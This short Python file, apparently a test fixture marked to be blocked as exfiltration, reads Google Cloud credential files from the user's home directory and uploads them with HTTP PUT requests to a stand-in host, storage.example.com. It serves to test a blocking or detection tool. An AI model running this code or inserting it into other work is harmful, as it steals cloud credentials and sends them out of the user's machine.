# expect: BLOCKED exfiltration
import os
import requests


def collect():
    base = os.path.expanduser("~/.config/gcloud")
    found = []
    for name in ("credentials.db", "application_default_credentials.json"):
        path = os.path.join(base, name)
        if os.path.exists(path):
            with open(path, "rb") as f:
                found.append(f.read())
    return found


def ship(items):
    for item in items:
        requests.put("https://storage.example.com/bucket/obj", data=item)


ship(collect())
